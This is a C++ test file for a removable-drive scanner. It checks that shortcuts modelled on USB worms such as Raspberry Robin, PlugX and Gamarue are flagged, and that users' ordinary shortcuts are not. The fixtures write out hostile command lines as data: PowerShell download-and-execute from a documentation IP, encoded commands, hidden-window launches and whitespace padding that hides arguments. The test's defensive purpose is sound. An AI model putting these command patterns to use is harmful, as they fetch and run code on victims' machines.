// Sticks laid out as today's worms lay them out (harmless stand-ins): a visible
// shortcut to cmd, wscript, rundll32 or PowerShell whose arguments hand over a file
// of the stick. Beside them, the user's own shortcuts, which stay no finding, and
// the programs that an autorun file's shell\verb\command keys start.
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <ostream>

#include "common/Text.h"
#include "platform/PathRules.h"
#include "support/ScanHarness.h"
#include "support/ShortcutBuilder.h"

#ifndef _WIN32
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#endif

namespace dw::test {

namespace {

constexpr uint32_t kHidden = kAttrHidden | kAttrArchive;                      // 0x22
constexpr uint32_t kHiddenSystem = kAttrHidden | kAttrSystem | kAttrArchive;  // 0x26
constexpr uint32_t kHiddenFolder = kAttrHidden | kAttrSystem;                 // 0x16 once a folder

const std::wstring kCmd = L"C:\\Windows\\System32\\cmd.exe";
const std::wstring kWscript = L"C:\\Windows\\System32\\wscript.exe";
const std::wstring kPowerShell = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const std::wstring kNbsp = L"\u00A0";
const std::wstring kDriveIcon = L"%SystemRoot%\\System32\\shell32.dll";
const std::string kProgram = std::string("MZ") + std::string(62, '\0');

struct TFinding {
  std::wstring path;  // relative to the root
  Why why;
  std::wstring detail;
  bool operator==(const TFinding&) const = default;
};

void PrintTo(const TFinding& f, std::ostream* os) {
  *os << WideToUtf8(f.path) << " (" << WideToUtf8(ReasonEnglish({f.why, f.detail})) << ")";
}

TFinding OnHidden(std::wstring path, std::wstring interpreter) {
  return {std::move(path), Why::InterpreterOnHidden, std::move(interpreter)};
}
TFinding OnDrive(std::wstring path, std::wstring interpreter) {
  return {std::move(path), Why::InterpreterOnDrive, std::move(interpreter)};
}
TFinding Concealed(std::wstring path, std::wstring interpreter) {
  return {std::move(path), Why::InterpreterConcealed, std::move(interpreter)};
}
TFinding Payload(std::wstring path, std::wstring shortcut) {
  return {std::move(path), Why::InterpreterPayload, std::move(shortcut)};
}

std::string Shortcut(const std::wstring& target, const std::wstring& arguments, uint32_t show = 1) {
  ShortcutBuilder builder(target);
  if (!arguments.empty()) builder.Arguments(arguments);
  return builder.ShowCommand(show).Build();
}

// A file that a classic rule listed first keeps that rule's reason.
TFinding HiddenSystemProgram(std::wstring path) { return {std::move(path), Why::HiddenSystemProgram, L""}; }

// The findings of list in the order reported, with their reasons, relative to the root and sorted;
// those of the other new rules (the kit of a hiding folder, a launcher named like its hidden
// sibling) are theirs to test.
std::vector<TFinding> Listed(const ScanHarness& h, const DriveFixture& drive, const std::vector<std::wstring>& list) {
  std::vector<TFinding> out;
  for (const std::wstring& path : h.view.added) {
    if (std::find(list.begin(), list.end(), path) == list.end()) continue;
    std::optional<TFindingWhy> why = State().FindingReasons.Get(path);
    if (why) {
      const std::string_view rule = RuleId(why->why);
      if (rule == "hiding-place" || rule == "impersonating-launcher" || rule == "emptied-root" ||
          rule == "disguised-name") {
        continue;
      }
    }
    std::wstring plain = PlainPath(path);
    if (plain.rfind(drive.root(), 0) == 0) plain.erase(0, drive.root().size());
    out.push_back({plain, why ? why->why : Why::None, why ? why->detail : L""});
  }
  std::sort(out.begin(), out.end(), [](const TFinding& a, const TFinding& b) { return a.path < b.path; });
  return out;
}

std::vector<TFinding> Sorted(std::vector<TFinding> findings) {
  std::sort(findings.begin(), findings.end(), [](const TFinding& a, const TFinding& b) { return a.path < b.path; });
  return findings;
}

struct TStickCase {
  const char* name;
  std::function<void(DriveFixture&, ScanHarness&)> arrange;
  std::vector<TFinding> threats;
  std::vector<TFinding> suspicious;
  bool thorough = false;
};

void PrintTo(const TStickCase& c, std::ostream* os) { *os << c.name; }

class InterpreterShortcutTest : public ::testing::TestWithParam<TStickCase> {};

TEST_P(InterpreterShortcutTest, ReportsTheShortcutAndWhatItHandsOver) {
  const TStickCase& c = GetParam();
  DriveFixture drive;
  ScanHarness h;
  c.arrange(drive, h);
  h.Scan(h.Drive(drive), c.thorough);
  EXPECT_EQ(Listed(h, drive, State().ThreatList.Snapshot()), Sorted(c.threats));
  EXPECT_EQ(Listed(h, drive, State().RiskList.Snapshot()), Sorted(c.suspicious));
  EXPECT_TRUE(h.view.errors.empty());
}

// A user's folder and document, as every stick has them.
void UserFiles(DriveFixture& d, const std::wstring& folder = L"Documents", uint32_t attributes = 0) {
  d.MakeFolder(folder, attributes);
  d.WriteFile(folder + L"\\cv.docx", "user's document");
}

// clang-format off
const TStickCase kFamilies[] = {
    {"RaspberryRobinReadsAHiddenFileNamedLikeTheLabel",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d);
       d.WriteFile(L"LAUREN V.Lvg", "rem SIMULATED raspberry robin stage (harmless)", kHidden);
       d.WriteFile(L"LAUREN V.lnk", ShortcutBuilder(kCmd).Arguments(L"/rcMD<\"LAUREN V.Lvg\"")
                                        .IconLocation(kDriveIcon, 3).ShowCommand(7).Build());
     },
     {OnHidden(L"LAUREN V.lnk", L"cmd.exe")}, {Payload(L"LAUREN V.Lvg", L"LAUREN V.lnk")}},
    {"RaspberryRobinBareNameFromTheRootAsWorkingFolder",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d, L"Documents", kHiddenFolder);  // the shortcut poses as the user's folder
       d.WriteFile(L"szM.ciK", "rem SIMULATED raspberry robin stage (harmless)", kHiddenSystem);
       d.WriteFile(L"Documents.lnk",
                   ShortcutBuilder(kCmd).Arguments(L"/RCmD<szM.ciK").WorkingDirectory(L"F:\\").ShowCommand(7).Build());
     },
     {OnHidden(L"Documents.lnk", L"cmd.exe")}, {Payload(L"szM.ciK", L"Documents.lnk")}},
    {"RaspberryRobinVisiblePayload",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"szM.ciK", "rem SIMULATED raspberry robin stage (harmless)");
       d.WriteFile(L"Recovery.lnk", Shortcut(kCmd, L"/RCmD<szM.ciK"));
     },
     {OnDrive(L"Recovery.lnk", L"cmd.exe")}, {Payload(L"szM.ciK", L"Recovery.lnk")}},

    {"PlugXComspecWithTheDriveLetterBakedIn",
     [](DriveFixture& d, ScanHarness&) {
       const std::wstring outer = kNbsp, inner = kNbsp + L"\\" + kNbsp, bin = inner + L"\\RECYCLER.BIN";
       d.MakeFolder(outer, kHiddenFolder);
       d.WriteFile(outer + L"\\desktop.ini",
                   "[.ShellClassInfo]\r\nIconResource=%systemroot%\\system32\\SHELL32.dll,7\r\n", kHiddenSystem);
       UserFiles(d, inner, kHiddenFolder);
       d.MakeFolder(bin, kHiddenFolder);
       d.WriteFile(bin + L"\\desktop.ini", "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n",
                   kHiddenSystem);
       d.MakeFolder(bin + L"\\files");
       d.WriteFile(bin + L"\\files\\x32dbg.exe", kProgram);
       d.WriteFile(bin + L"\\files\\x32bridge.dll", kProgram);
       d.WriteFile(bin + L"\\files\\x32bridge.dat", "SIMULATED encrypted payload (harmless)");
       d.WriteFile(L"TESTDRIVE.lnk",
                   ShortcutBuilder(kCmd).EnvironmentTarget(L"%comspec%")
                       .Arguments(L"/q /c \"F:\\" + kNbsp + L"\\" + kNbsp + L"\\RECYCLER.BIN\\files\\x32dbg.exe\"")
                       .IconLocation(kDriveIcon, 7).ShowCommand(7).Build());
     },
     {OnHidden(L"TESTDRIVE.lnk", L"cmd.exe")},
     {Payload(kNbsp + L"\\" + kNbsp + L"\\RECYCLER.BIN\\files\\x32dbg.exe", L"TESTDRIVE.lnk")}},
    {"PlugXEnvironmentTargetOnlyRelativePathThroughBlankNamedFolders",
     [](DriveFixture& d, ScanHarness&) {
       // The folders are not even hidden: a name that shows as nothing is enough.
       const std::wstring files = kNbsp + L"\\" + kNbsp + L"\\RECYCLER.BIN\\files";
       d.MakeFolder(kNbsp);
       d.MakeFolder(kNbsp + L"\\" + kNbsp);
       d.MakeFolder(kNbsp + L"\\" + kNbsp + L"\\RECYCLER.BIN");
       d.MakeFolder(files);
       d.WriteFile(files + L"\\x32dbg.exe", kProgram);
       d.WriteFile(L"RECON2023.lnk",
                   ShortcutBuilder().EnvironmentTarget(L"%ComSpec%")
                       .Arguments(L"/q /c \"" + kNbsp + L"\\" + kNbsp + L"\\RECYCLER.BIN\\files\\x32dbg.exe\"").Build());
     },
     {OnHidden(L"RECON2023.lnk", L"cmd.exe")}, {Payload(kNbsp + L"\\" + kNbsp + L"\\RECYCLER.BIN\\files\\x32dbg.exe", L"RECON2023.lnk")}},
    {"PlugXAvastSideLoadKitInAFakeRecycleBin",
     [](DriveFixture& d, ScanHarness&) {
       d.MakeFolder(L"RECYCLER.BIN", kHiddenFolder);
       d.WriteFile(L"RECYCLER.BIN\\desktop.ini", "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n",
                   kHiddenSystem);
       d.MakeFolder(L"RECYCLER.BIN\\1", kHiddenFolder);
       d.WriteFile(L"RECYCLER.BIN\\1\\AvastSvc.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\1\\wsc.dll", kProgram, kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\1\\AvastAuth.dat", "SIMULATED encrypted payload (harmless)", kHiddenSystem);
       UserFiles(d, kNbsp, kHiddenFolder);
       d.WriteFile(L"USB Drive.lnk", ShortcutBuilder(kCmd).Arguments(L"/q /c \"RECYCLER.BIN\\1\\AvastSvc.exe\"")
                                         .IconLocation(kDriveIcon, 7).Build());
     },
     {OnHidden(L"USB Drive.lnk", L"cmd.exe")}, {Payload(L"RECYCLER.BIN\\1\\AvastSvc.exe", L"USB Drive.lnk")}},
    {"PlugXCefHelperKitThroughAnItemIdListOnly",
     [](DriveFixture& d, ScanHarness&) {
       d.MakeFolder(L"RECYCLER.BIN", kHiddenFolder);
       d.MakeFolder(L"RECYCLER.BIN\\1", kHiddenFolder);
       d.WriteFile(L"RECYCLER.BIN\\1\\CEFHelper.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"RECYCLER.BIN\\1\\libcef.dll", kProgram, kHiddenSystem);
       d.WriteFile(L"USBSTICK.lnk",
                   ShortcutBuilder().IdList(kCmd).Arguments(L"/q /c \"RECYCLER.BIN\\1\\CEFHelper.exe\"").Build());
     },
     {OnHidden(L"USBSTICK.lnk", L"cmd.exe")}, {Payload(L"RECYCLER.BIN\\1\\CEFHelper.exe", L"USBSTICK.lnk")}},

    {"GamarueLibraryThroughWindir",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"~$WYDCNU.FAT32", kProgram, kHiddenSystem);
       d.WriteFile(L"desktop.ini", std::string("\x01\x7f SIMULATED encoded code (harmless)"), kHiddenSystem);
       d.WriteFile(L"thumbs.db", "SIMULATED blob (harmless)", kHiddenSystem);
       d.WriteFile(L"~$Report.docx", std::string(162, 'o'), kHidden);  // Office's owner file: the user's
       UserFiles(d, kNbsp, kHiddenFolder);
       d.WriteFile(L"usb drive (8gb).lnk", ShortcutBuilder().EnvironmentTarget(L"%windir%\\system32\\rundll32.exe")
                                               .Arguments(L"~$WYDCNU.FAT32,IdleProcess").IconLocation(kDriveIcon, 7).Build());
     },
     {OnHidden(L"usb drive (8gb).lnk", L"rundll32.exe")}, {Payload(L"~$WYDCNU.FAT32", L"usb drive (8gb).lnk")}},
    {"GamarueLibraryThroughMixedCaseHomeDrive",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"~$wb.usbdrv", kProgram, kHiddenSystem);
       d.WriteFile(L"KINGSTON.lnk", ShortcutBuilder().EnvironmentTarget(L"%hoMEdrive%\\WINDOWS\\System32\\rundll32.exe")
                                        .Arguments(L"~$wb.usbdrv, lnk").Build());
     },
     {OnHidden(L"KINGSTON.lnk", L"rundll32.exe")}, {Payload(L"~$wb.usbdrv", L"KINGSTON.lnk")}},

    {"JenxcusShortcutsForAFileAndAFolderOpenTheUsersItems",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"iTunesHelper.vbe", "' SIMULATED worm script (harmless)" + std::string(4000, '\n'), kHiddenSystem);
       d.WriteFile(L"Secret Text File.txt", "user's text", kHiddenSystem);
       d.WriteFile(L"Secret Text File.lnk",
                   Shortcut(L"C:\\WINDOWS\\system32\\cmd.exe",
                            L"/c start iTunesHelper.vbe&start Secret\" \"Text\" \"File.txt&exit", 7));
       UserFiles(d, L"Photos", kHiddenFolder);
       d.WriteFile(L"Photos.lnk", Shortcut(L"C:\\WINDOWS\\system32\\cmd.exe",
                                           L"/c start iTunesHelper.vbe&start explorer Photos&exit", 7));
     },
     {OnHidden(L"Photos.lnk", L"cmd.exe"), OnHidden(L"Secret Text File.lnk", L"cmd.exe")},
     {HiddenSystemProgram(L"iTunesHelper.vbe")}},
    {"JenxcusShortcutNamedWithTheExtensionLeavesTheUsersInstaller",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"iTunesHelper.vbe", "' SIMULATED worm script (harmless)", kHiddenSystem);
       d.WriteFile(L"Budget.xlsx", "user's sheet", kHiddenSystem);
       d.WriteFile(L"Budget.xlsx.lnk", Shortcut(kCmd, L"/c start iTunesHelper.vbe&start Budget.xlsx&exit"));
       d.WriteFile(L"Setup.msi", "user's installer", kHiddenSystem);
       d.WriteFile(L"Setup.msi.lnk", Shortcut(kCmd, L"/c start iTunesHelper.vbe&start Setup.msi&exit"));
     },
     {OnHidden(L"Budget.xlsx.lnk", L"cmd.exe"), OnHidden(L"Setup.msi.lnk", L"cmd.exe")},
     {HiddenSystemProgram(L"iTunesHelper.vbe")}},

    {"MovemenoregScriptInTheUnderscoreFolder",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d, L"_", kHiddenFolder);
       d.WriteFile(L"_\\movemenoreg.vbs", "' SIMULATED worm script (harmless)", kHiddenSystem);
       d.WriteFile(L"PENDRIVE.lnk", Shortcut(kWscript, L"\"_\\movemenoreg.vbs\""));
     },
     {OnHidden(L"PENDRIVE.lnk", L"wscript.exe")}, {Payload(L"_\\movemenoreg.vbs", L"PENDRIVE.lnk")}},
    {"MovemenoregStartedThroughCmd",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d, L"_", kHiddenFolder);
       d.WriteFile(L"_\\movemenoreg.vbs", "' SIMULATED worm script (harmless)", kHiddenSystem);
       d.WriteFile(L"PENDRIVE.lnk", Shortcut(L"cmd", L"/c start _\\movemenoreg.vbs & start explorer _"));
     },
     {OnHidden(L"PENDRIVE.lnk", L"cmd.exe")}, {Payload(L"_\\movemenoreg.vbs", L"PENDRIVE.lnk")}},

    {"PhorpiexOpensTheFolderAndRunsTheWorm",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d, L"__", kHiddenFolder);
       d.WriteFile(L"__\\DriveMgr.exe", kProgram, kHiddenSystem);
       d.WriteFile(L"USBSTICK.lnk", ShortcutBuilder(kCmd).Arguments(L"/c start __ & __\\DriveMgr.exe & exit")
                                        .IconLocation(kDriveIcon, 7).Build());
     },
     {OnHidden(L"USBSTICK.lnk", L"cmd.exe")}, {Payload(L"__\\DriveMgr.exe", L"USBSTICK.lnk")}},

    {"LitterDrifterQuickScanSeesTheRootShortcut",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"trash.dll", "' SIMULATED VBScript (harmless)", kHidden);
       d.WriteFile(L"Invoice.lnk", Shortcut(kWscript, L"//e:vbScript //b \"E:\\trash.dll\""));
       d.MakeFolder(L"Work");
       d.WriteFile(L"Work\\trash.dll", "' SIMULATED VBScript (harmless)", kHiddenSystem);
       d.WriteFile(L"Work\\Plans.lnk", Shortcut(kWscript, L"//e:vbScript //b trash.dll"));
     },
     {OnHidden(L"Invoice.lnk", L"wscript.exe")}, {Payload(L"trash.dll", L"Invoice.lnk")}},
    {"LitterDrifterThoroughScanSeesTheSubfolderShortcutToo",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"trash.dll", "' SIMULATED VBScript (harmless)", kHidden);
       d.WriteFile(L"Invoice.lnk", Shortcut(kWscript, L"//e:vbScript //b \"E:\\trash.dll\""));
       d.MakeFolder(L"Work");
       d.WriteFile(L"Work\\trash.dll", "' SIMULATED VBScript (harmless)", kHiddenSystem);
       d.WriteFile(L"Work\\Plans.lnk", Shortcut(kWscript, L"//e:vbScript //b trash.dll"));
     },
     {OnHidden(L"Invoice.lnk", L"wscript.exe"), OnHidden(L"Work\\Plans.lnk", L"wscript.exe")},
     {Payload(L"trash.dll", L"Invoice.lnk"), Payload(L"Work\\trash.dll", L"Plans.lnk")}, true},

    {"GamaredonPowerShellRunsTheFileItReads",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d, L"Work");
       d.WriteFile(L"Work.dat", "# SIMULATED PowerShell (harmless)", kHidden);
       d.WriteFile(L"Work.lnk",
                   ShortcutBuilder(kPowerShell)
                       .Arguments(L"-windoWSTYLE hiDdEn -NOlOgo iEX (IeX (geT-coNtEnT 'Work.dat'));explorer 'Work'")
                       .IconLocation(kDriveIcon, 3).Build());
     },
     {OnHidden(L"Work.lnk", L"powershell.exe")}, {Payload(L"Work.dat", L"Work.lnk")}},

    {"CryptoBanditsShortcutsInPlaceOfTheDocuments",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"sysupdate.js", "// SIMULATED worm script (harmless)", kHiddenSystem);
       d.WriteFile(L"Report.docx", "user's report", kHidden);
       d.WriteFile(L"Report.docx.lnk", Shortcut(kWscript, L"//b //e:jscript \"sysupdate.js\""));
       d.WriteFile(L"Budget.xlsx", "user's sheet", kHidden);
       d.WriteFile(L"Budget.xlsx.lnk", Shortcut(kWscript, L"//b //e:jscript \"sysupdate.js\""));
     },
     {OnHidden(L"Budget.xlsx.lnk", L"wscript.exe"), OnHidden(L"Report.docx.lnk", L"wscript.exe")},
     {HiddenSystemProgram(L"sysupdate.js")}},

    {"PaddingOfBlanksAndLineBreaksBeforeTheCommand",
     [](DriveFixture& d, ScanHarness&) {
       d.MakeFolder(L"bin", kAttrHidden);
       d.WriteFile(L"bin\\update.cmd", "rem SIMULATED (harmless)");
       std::wstring padding = std::wstring(300, L' ');
       for (int i = 0; i < 25; ++i) padding += L"\r\n";
       d.WriteFile(L"Invoice.pdf.lnk", Shortcut(kCmd, padding + L"/c start bin\\update.cmd"));
     },
     {OnHidden(L"Invoice.pdf.lnk", L"cmd.exe")}, {Payload(L"bin\\update.cmd", L"Invoice.pdf.lnk")}},
    {"PaddingOfControlCharactersThroughAnItemIdListOnly",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"update.cmd", "rem SIMULATED (harmless)");
       std::wstring padding;
       for (int i = 0; i < 60; ++i) padding += L"\t\n\x0b\x0c\r";
       d.WriteFile(L"Invoice.pdf.lnk",
                   ShortcutBuilder().IdList(kCmd).Arguments(padding + L"/c start update.cmd").Build());
     },
     {OnDrive(L"Invoice.pdf.lnk", L"cmd.exe")}, {Payload(L"update.cmd", L"Invoice.pdf.lnk")}},
    {"PaddingAloneConcealsAPayloadOffTheDrive",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"x.exe", kProgram);
       d.WriteFile(L"Invoice.pdf.lnk",
                   Shortcut(kCmd, L"/c" + std::wstring(300, L' ') + L"start \\\\203.0.113.5\\share\\x.exe"));
     },
     {Concealed(L"Invoice.pdf.lnk", L"cmd.exe")}, {}},
    {"LongArgumentsOfAnEnvironmentTargetOnlyConceal",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"Report.lnk",
                   ShortcutBuilder().EnvironmentTarget(L"%comspec%").Arguments(L"/c echo " + std::wstring(300, L'a')).Build());
     },
     {Concealed(L"Report.lnk", L"cmd.exe")}, {}},
    {"PowerShellWithAHiddenWindowConceals",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"Photos.lnk", Shortcut(L"powershell", L"-w hidden -c \"iwr http://203.0.113.5/a | iex\""));
       d.WriteFile(L"Music.lnk", Shortcut(kPowerShell, L"-nop -enc SQBFAFgA"));
     },
     {Concealed(L"Music.lnk", L"powershell.exe"), Concealed(L"Photos.lnk", L"powershell.exe")}, {}},

    {"ExplorerGivenAProgramOfTheStick",
     [](DriveFixture& d, ScanHarness&) {
       d.MakeFolder(L"RECYCLER", kHiddenFolder);
       d.WriteFile(L"RECYCLER\\setup.exe", kProgram);
       d.WriteFile(L"Photos.lnk", Shortcut(L"C:\\Windows\\explorer.exe", L"\"RECYCLER\\setup.exe\""));
     },
     {OnHidden(L"Photos.lnk", L"explorer.exe")}, {Payload(L"RECYCLER\\setup.exe", L"Photos.lnk")}},
    {"CommandFoundWithPathextInTheWorkingFolder",
     [](DriveFixture& d, ScanHarness&) {
       d.MakeFolder(L"Src");
       d.WriteFile(L"Src\\build.cmd", "rem SIMULATED (harmless)");
       d.WriteFile(L"Tools.lnk", ShortcutBuilder(kCmd).Arguments(L"/c build").WorkingDirectory(L"G:\\Src").Build());
     },
     {OnDrive(L"Tools.lnk", L"cmd.exe")}, {Payload(L"Src\\build.cmd", L"Tools.lnk")}},
};

// The user's own shortcuts and the ordinary content of sticks: no finding.
const TStickCase kUsersSticks[] = {
    {"CommandPromptWithoutArguments",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"Command Prompt.lnk",
                   ShortcutBuilder(kCmd).WorkingDirectory(L"%HOMEDRIVE%%HOMEPATH%").Build());
     }, {}, {}},
    {"CommandPromptChangingToAFolderOfThePC",
     [](DriveFixture& d, ScanHarness& h) {
       h.volumes.Add(L'c', FakeVolume{.driveType = kDriveFixed});
       d.MakeFolder(L"Tools");  // the same name on the stick is another folder
       d.WriteFile(L"Tools\\run.exe", kProgram);
       d.WriteFile(L"Tools.lnk", Shortcut(kCmd, L"/k cd /d C:\\Tools"));
       d.WriteFile(L"Run tool.lnk", Shortcut(kCmd, L"/c C:\\Tools\\run.exe"));
     }, {}, {}},
    {"NotepadWithADocumentOfTheStick",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"Notes.txt", "user's notes");
       d.WriteFile(L"Edit notes.lnk", Shortcut(L"C:\\Windows\\notepad.exe", L"E:\\Notes.txt"));
       d.WriteFile(L"Notes.lnk", Shortcut(L"E:\\Notes.txt", L""));
     }, {}, {}},
    {"ExplorerOpeningAFolderMinimised",
     [](DriveFixture& d, ScanHarness&) {
       UserFiles(d, L"Photos", kHiddenFolder);
       d.WriteFile(L"Photos.lnk", Shortcut(L"C:\\Windows\\explorer.exe", L"/e,Photos", 7));
     }, {}, {}},
    {"PortableAppsAndADevelopersStick",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"Start.exe", kProgram);
       d.MakeFolder(L"PortableApps");
       d.MakeFolder(L"PortableApps\\FirefoxPortable");
       d.WriteFile(L"PortableApps\\FirefoxPortable\\FirefoxPortable.exe", kProgram);
       d.WriteFile(L"Firefox.lnk", Shortcut(L"E:\\PortableApps\\FirefoxPortable\\FirefoxPortable.exe",
                                            L"-profile \"Data\\profile\" cmd.exe"));
       d.MakeFolder(L"src");
       d.WriteFile(L"src\\build.cmd", "@echo off");
       d.WriteFile(L"src\\tool.py", "print('hi')");
       d.WriteFile(L"src\\make.exe", kProgram);
       d.WriteFile(L"src\\Build.lnk", ShortcutBuilder(L"E:\\src\\make.exe").Arguments(L"all").WorkingDirectory(L"E:\\src").Build());
       d.MakeFolder(L"Old.lnk");  // a folder named like a shortcut
       d.MakeFolder(L"DCIM");
       d.WriteFile(L"DCIM\\IMG_0001.JPG", "jpeg");
       d.MakeFolder(L"System Volume Information", kHiddenFolder);
       d.WriteFile(L"System Volume Information\\WPSettings.dat", "x", kHiddenSystem);
       d.WriteFile(L"~$Report.docx", std::string(162, 'o'), kHidden);
       d.WriteFile(L"Thumbs.db", "thumbs", kHiddenSystem);
       d.WriteFile(L"._Report.docx", "mac", kHidden);
     }, {}, {}, true},
};
// clang-format on

INSTANTIATE_TEST_SUITE_P(Families, InterpreterShortcutTest, ::testing::ValuesIn(kFamilies),
                         [](const auto& testInfo) { return std::string(testInfo.param.name); });
INSTANTIATE_TEST_SUITE_P(UsersSticks, InterpreterShortcutTest, ::testing::ValuesIn(kUsersSticks),
                         [](const auto& testInfo) { return std::string(testInfo.param.name); });

TEST(InterpreterShortcut, AWindowTheUserDoesNotSeeConceals) {
  struct {
    uint32_t show;
    bool concealed;
  } cases[] = {{1, false}, {3, false}, {7, true}, {2, true}, {6, true}, {11, true}, {0, true}};
  for (const auto& c : cases) {
    DriveFixture drive;
    ScanHarness h;
    drive.WriteFile(L"Console.lnk", Shortcut(kCmd, L"", c.show));
    h.Scan(h.Drive(drive));
    std::vector<TFinding> expected;
    if (c.concealed) expected.push_back(Concealed(L"Console.lnk", L"cmd.exe"));
    EXPECT_EQ(Listed(h, drive, State().ThreatList.Snapshot()), expected) << "show " << c.show;
  }
}

TEST(InterpreterShortcut, PaddingStartsAtTenBlanksOrPastWhatTheDialogShows) {
  struct {
    std::wstring arguments;
    bool concealed;
  } cases[] = {
      {L"/k echo" + std::wstring(9, L' ') + L"ready", false}, {L"/k echo" + std::wstring(10, L' ') + L"ready", true},
      {L"/k echo" + std::wstring(9, L'\xA0') + L"\t", true},  {L"/k echo " + std::wstring(259 - 8, L'a'), false},
      {L"/k echo " + std::wstring(260 - 8, L'a'), true},
  };
  for (const auto& c : cases) {
    DriveFixture drive;
    ScanHarness h;
    drive.WriteFile(L"Console.lnk", Shortcut(kCmd, c.arguments));
    h.Scan(h.Drive(drive));
    std::vector<TFinding> expected;
    if (c.concealed) expected.push_back(Concealed(L"Console.lnk", L"cmd.exe"));
    EXPECT_EQ(Listed(h, drive, State().ThreatList.Snapshot()), expected) << c.arguments.size();
  }
}

// Some names may not be looked at; the drive is then not called clean.
TEST(InterpreterShortcut, MoreNamesThanAreLookedAtLeaveTheDriveNotClean) {
  DriveFixture drive;
  ScanHarness h;
  std::wstring arguments = L"/c";
  for (int i = 0; i < 400; ++i) arguments += L" w" + std::to_wstring(i);
  drive.WriteFile(L"payload.exe", kProgram);
  drive.WriteFile(L"Lure.lnk", Shortcut(kCmd, arguments + L" & payload.exe"));
  h.Scan(h.Drive(drive));
  EXPECT_EQ(Listed(h, drive, State().ThreatList.Snapshot()), std::vector<TFinding>{Concealed(L"Lure.lnk", L"cmd.exe")});
  using Errors = std::vector<std::pair<std::wstring, ScanErrorKind>>;
  EXPECT_EQ(h.view.errors, (Errors{{drive.Path(L"Lure.lnk"), ScanErrorKind::TooLarge}}));
}

#ifndef _WIN32
// A folder of the stick that is a link to a folder elsewhere: the shortcut still
// counts, and nothing behind the link is reported.
TEST(InterpreterShortcut, APayloadBehindALinkIsNeverReported) {
  DriveFixture drive;
  ScanHarness h;
  TempFolder outside;
  const std::filesystem::path elsewhere = WideToUtf8(outside.path().substr(0, outside.path().size() - 1));
  std::ofstream(elsewhere / "evil.exe", std::ios::binary) << "precious";
  std::filesystem::create_directory_symlink(elsewhere, std::filesystem::path(drive.UnixFolder()) / "link");
  drive.WriteFile(L"Photos.lnk", Shortcut(kCmd, L"/c start link\\evil.exe"));
  drive.WriteFile(L"Music.lnk", Shortcut(kWscript, L"E:\\link\\evil.exe"));
  h.Scan(h.Drive(drive), true);
  EXPECT_EQ(Listed(h, drive, State().ThreatList.Snapshot()),
            (std::vector<TFinding>{OnDrive(L"Music.lnk", L"wscript.exe"), OnDrive(L"Photos.lnk", L"cmd.exe")}));
  EXPECT_TRUE(State().RiskList.Snapshot().empty());
  EXPECT_TRUE(std::filesystem::exists(elsewhere / "evil.exe"));
}

// A shortcut below the root that is a pipe is refused without waiting on it, and
// the drive is not called clean.
TEST(InterpreterShortcut, AShortcutThatCannotBeReadLeavesTheDriveNotClean) {
  DriveFixture drive;
  ScanHarness h;
  drive.MakeFolder(L"sub");
  ASSERT_EQ(mkfifo((std::filesystem::path(drive.UnixFolder()) / "sub" / "lure.lnk").c_str(), 0644), 0);
  h.Scan(h.Drive(drive), true);
  using Errors = std::vector<std::pair<std::wstring, ScanErrorKind>>;
  EXPECT_EQ(h.view.errors, (Errors{{drive.Path(L"sub\\lure.lnk"), ScanErrorKind::NotRegularFile}}));
}
#endif

// The programs that an autorun file's shell\<verb>\command keys start.
// clang-format off
const TStickCase kAutorunVerbs[] = {
    {"MixedCaseSectionAndTheAutoVerb",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", "[AUtoRuN]\r\nshell\\auto\\command=SVCH0ST.EXE e\r\nshell=auto\r\n");
       d.WriteFile(L"SVCH0ST.EXE", kProgram);
     },
     {{L"SVCH0ST.EXE", Why::AutorunTarget, L""}, {L"autorun.inf.ren", Why::AutorunFile, L""}}, {}},
    {"OpenAndExploreVerbsWithMixedCaseKeys",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", "[autorun]\nShell\\Open\\Command=setup\\run.exe /s\nSHELL\\EXPLORE\\COMMAND=look.exe\n");
       d.MakeFolder(L"setup");
       d.WriteFile(L"setup\\run.exe", kProgram);
       d.WriteFile(L"look.exe", kProgram);
     },
     {{L"autorun.inf.ren", Why::AutorunFile, L""}, {L"look.exe", Why::AutorunTarget, L""},
      {L"setup\\run.exe", Why::AutorunTarget, L""}}, {}},
    {"VerbCommandOffTheDrive",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", "[autorun]\nshell\\open\\command=b:\\run.exe\n");
       d.WriteFile(L"run.exe", kProgram);
     },
     {{L"autorun.inf.ren", Why::AutorunFile, L""}}, {}},
    {"OpenAndAVerbStartingOneProgramGiveOneFinding",
     [](DriveFixture& d, ScanHarness&) {
       d.WriteFile(L"autorun.inf", "[autorun]\nopen=run.exe\nshell\\open\\command=RUN.EXE\nshell\\auto\\command=run.exe x\n");
